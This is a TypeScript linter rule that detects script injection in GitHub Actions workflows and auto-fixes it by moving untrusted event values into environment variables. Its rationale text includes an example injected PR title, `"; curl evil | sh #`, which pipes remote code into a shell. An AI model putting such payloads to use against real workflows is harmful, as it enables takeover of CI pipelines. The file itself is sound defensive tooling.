import { defineRule } from '../../../engine/define';
import type { ExprSite, WorkflowModel } from '../parse';
import type { Expr } from '../expr/parser';
import { appendToBlockMap, columnOf, lineStartOf } from '../edits';
import { entries, entry } from '../../../yaml/view';
import { propertyPath } from '../expr/walk';

/** Event payload fields anyone who can open an issue or a pull request controls (`*`: any element). */
const UNTRUSTED = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.head_ref',
].map((p) => p.split('.'));

/** The untrusted fields a property chain reads (several through a `*` filter). */
function untrustedReached(chain: string): string[] {
  if (!chain.startsWith('github.event.') && chain !== 'github.head_ref') return [];
  const parts = chain.split('.');
  const out: string[] = [];
  for (const u of UNTRUSTED)
    if (u.length === parts.length && u.every((seg, i) => seg === parts[i] || seg === '*' || parts[i] === '*'))
      out.push(u.map((seg, i) => (seg === '*' ? parts[i] : seg)).join('.'));
  return out;
}

/** Functions whose result is a boolean: an untrusted value passed to them cannot reach the script. */
const SAFE_FUNCTIONS = new Set(['contains', 'startswith', 'endswith']);

export function untrustedPaths(e: Expr, out: string[] = []): string[] {
  const c = propertyPath(e)?.toLowerCase();
  if (c !== undefined) {
    out.push(...untrustedReached(c));
    return out;
  }
  switch (e.kind) {
    case 'call':
      if (SAFE_FUNCTIONS.has(e.name.toLowerCase())) break;
      for (const a of e.args) untrustedPaths(a, out);
      break;
    case 'binary':
      untrustedPaths(e.left, out);
      untrustedPaths(e.right, out);
      break;
    case 'not':
      untrustedPaths(e.operand, out);
      break;
    case 'index':
      untrustedPaths(e.object, out);
      break;
  }
  return out;
}

function envName(path: string): string {
  const parts = path.split('.').filter((p) => p !== '*' && p !== 'github' && p !== 'event');
  return (
    parts
      .slice(-2)
      .join('_')
      .replace(/[^A-Za-z0-9_]/g, '_')
      .toUpperCase() || 'UNTRUSTED_INPUT'
  );
}

export const rule = defineRule<WorkflowModel>({
  meta: {
    code: 'WF015',
    id: 'script-injection',
    kinds: ['workflow'],
    defaultSeverity: 'warning',
    description:
      'Untrusted event values (issue titles, PR bodies, branch names, ...) ' +
      'must not be expanded inside `run:` scripts or `github-script`.',
    messages: {
      injection:
        '"{{path}}" is controlled by whoever opens the issue or pull request; ' +
        'expanding it in a script lets them run commands. Pass it through an environment variable.',
    },
    fixable: 'suggestion',
    docs: {
      rationale:
        '`${{ }}` is substituted into the script text before the shell runs ' +
        'it, so a PR title like `"; curl evil | sh #` becomes code. The standard fix is to put the ' +
        'value in `env:` and read the variable, which the shell never re-parses. Checked in `run:` and in the ' +
        '`script` of actions/github-script; an object filter (`github.event.*.title`) reaches every untrusted ' +
        'field it can, and a value passed to `contains()`, `startsWith()` or `endsWith()` only gives a boolean. ' +
        'Severity warning: a security risk, though the workflow itself runs.',
      incorrect:
        'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n ' +
        '     - run: echo "${{ github.event.issue.title }}"\n',
      correct:
        'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n ' +
        '     - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title ' +
        '}}\n',
      peers: ['actionlint expression (untrusted input)'],
    },
  },
  check(ctx) {
    const { model, text } = ctx;
    const doc = model.doc;
    for (const site of model.expressions) {
      if (!site.expr || !site.step) continue;
      const inRun = site.key === 'run' && /\.run$/.test(site.path);
      const inScript =
        site.key === 'script' && !!site.step.uses && /^actions\/github-script@/i.test(site.step.uses.value);
      if (!inRun && !inScript) continue;
      const paths = untrustedPaths(site.expr);
      if (!paths.length) continue;
      ctx.report({
        start: site.outerStart,
        end: site.outerEnd,
        messageId: 'injection',
        data: { path: [...new Set(paths)].join('", "') },
        suggestions: doc ? fixFor(site, paths[0], inScript) : undefined,
      });
    }
    function fixFor(site: ExprSite, path: string, inScript: boolean) {
      const step = site.step!;
      const name = envName(path);
      const value = `\${{ ${site.src.trim()} }}`;
      // Inside single quotes the shell expands nothing: close them around the variable.
      const lineStart = text.lastIndexOf('\n', site.outerStart - 1) + 1;
      const quoted = !inScript && (text.slice(lineStart, site.outerStart).match(/'/g)?.length ?? 0) % 2 === 1;
      const use = inScript ? `process.env.${name}` : quoted ? `'"$${name}"'` : `$${name}`;
      const edits = [{ start: site.outerStart, end: site.outerEnd, newText: use }];
      const envEntry = entry(step.node, doc, 'env', false);
      if (envEntry) {
        if (!step.env || entries(step.env, doc, false).some((e) => e.key === name)) return undefined;
        const add = appendToBlockMap(doc!, text, step.env, [`${name}: ${value}`]);
        if (!add) return undefined;
        edits.push(add);
      } else {
        // Insert `env:` before the step's first key, at that key's indentation.
        const first = entries(step.node, doc, false)[0];
        if (!first || step.node.flow) return undefined;
        const keyCol = columnOf(text, first.keyStart);
        const ls = lineStartOf(text, first.keyStart);
        const indent = ' '.repeat(keyCol);
        const prefix = text.slice(ls, first.keyStart);
        if (/^\s*-\s*$/.test(prefix)) {
          // `- run: ...` : put env on the next lines after the whole step.
          const [, ve] = (step.node as unknown as { range: [number, number, number] }).range;
          let at = ve;
          while (at > 0 && (text[at - 1] === '\n' || text[at - 1] === '\r')) at--;
          edits.push({ start: at, end: at, newText: `\n${indent}env:\n${indent}  ${name}: ${value}` });
        } else {
          edits.push({ start: ls, end: ls, newText: `${indent}env:\n${indent}  ${name}: ${value}\n` });
        }
      }
      edits.sort((a, b) => a.start - b.start);
      return [{ title: `Move ${path} into env ${name}`, edits, safe: false }];
    }
  },
});
